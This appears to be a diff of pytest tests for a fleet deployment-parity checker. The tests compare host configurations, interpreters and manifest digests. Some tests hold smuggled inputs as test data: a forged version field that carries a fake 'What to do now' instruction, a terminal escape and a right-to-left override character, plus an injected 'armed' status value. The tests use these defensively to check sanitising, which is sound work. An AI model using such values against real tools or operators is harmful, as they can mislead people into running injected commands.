-    evidence = parse_evidence(_told("status", said), time.time())
+    said = json.dumps({**STATUS, "armed": [EVIL]})
+    evidence = _read(status=Asked(way="command", code=0, answer=said).to_json())
     assert evidence.status is None
     seen = {name: good(name) for name in NAMES} | {NAMES[0]: evidence}
     taken = judge(rendered().inventory, seen, MANIFEST)
@@ -432,14 +569,8 @@ def test_no_word_of_a_host_ends_up_in_a_command_that_a_person_pastes() -> None:
 
 def test_a_host_speaks_in_one_line_of_its_own() -> None:
     forged = "2026.1\nWhat to do now: deploytool flags arm RETAIL\x1b[2J\u202e"
-    (finding,) = status_rule(wanted(), replace(good(), status={**STATUS, "version": forged}))
+    (finding,) = status_rule(wanted(), but(good(), status={**STATUS, "version": forged}))
     assert str(finding).isprintable()
-    reply = parse_reply(
-        b"\ndeploytool ab begin\ncurrent releases/\x1b[2J\tx\ndeploytool ab end ok\n",
-        "ab",
-        probe_call(),
-    )
-    assert (reply.one("current") or "").isprintable()
 
 
 # --- fleets --------------------------------------------------------------------------------------
@@ -505,38 +636,36 @@ def test_p1_a_fleet_on_nothing_is_no_parity() -> None:
 
 
 def test_p1_two_names_for_one_machine_are_found_on_both() -> None:
-    twin = replace(good("router2"), machine=good("router1").machine)
+    twin = but(good("router2"), machine=good("router1").machine)
     taken = judge(rendered().inventory, fleet(router2=twin), MANIFEST)
     bad = [v.host for v in taken.hosts if v.verdict is Verdict.MISMATCH]
     assert bad == ["router1", "router2"]
-    apart = replace(twin, root="/another/root")
+    apart = but(twin, root="/another/root")
     assert judge(rendered().inventory, fleet(router2=apart), MANIFEST).parity is Parity.PARITY
 
 
 @pytest.mark.parametrize("odd", [1, 4])
 def test_p1_another_configuration_is_another_build(odd: int) -> None:
-    path = good().configs[0][0]
-    changed = {n: replace(good(n), configs=((path, OTHER_SHA),)) for n in NAMES[:odd]}
+    other = (FileDigest(path=CONFIG, sha=OTHER_SHA),)
+    changed = {n: but(good(n), configs=other) for n in NAMES[:odd]}
     taken = judge(rendered().inventory, fleet(**changed), MANIFEST)
     bad = [v.host for v in taken.hosts if v.verdict is not Verdict.MATCH]
     assert bad == (list(NAMES[:1]) if odd == 1 else list(NAMES)), "no majority: all are odd"
 
 
 def test_p1_another_interpreter_is_found() -> None:
-    other = replace(good("router3"), interpreters=((OTHER_SHA, "/usr/bin/python3"),))
+    other = but(good("router3"), interpreters=(FileDigest(path="/usr/bin/python3", sha=OTHER_SHA),))
     taken = judge(rendered().inventory, fleet(router3=other), MANIFEST)
     assert [v.host for v in taken.hosts if v.verdict is Verdict.MISMATCH] == ["router3"]
-
-
-def test_a_host_without_an_identity_is_unknown() -> None:
-    verdicts = judge_fleet([HostVerdict("a", (), None, replace(good(), machine=""))])
-    assert verdicts[0].verdict is Verdict.UNKNOWN
 
 
 def test_p1_a_manifest_that_lies_about_its_digest_is_not_believed() -> None:
     forged = MANIFEST.model_copy(update={"version": "9.9"}).canonical()
     seen: dict[str, Evidence | HostFault]
-    seen = {name: replace(good(name), manifest=forged) for name in NAMES}
+    seen = {
+        name: but(good(name), manifest=Manifest(sha=MANIFEST.digest(), text=forged.decode()))
+        for name in NAMES
+    }
     shown = shown_manifest(seen)
     assert shown is not None
     assert shown.version == "0"
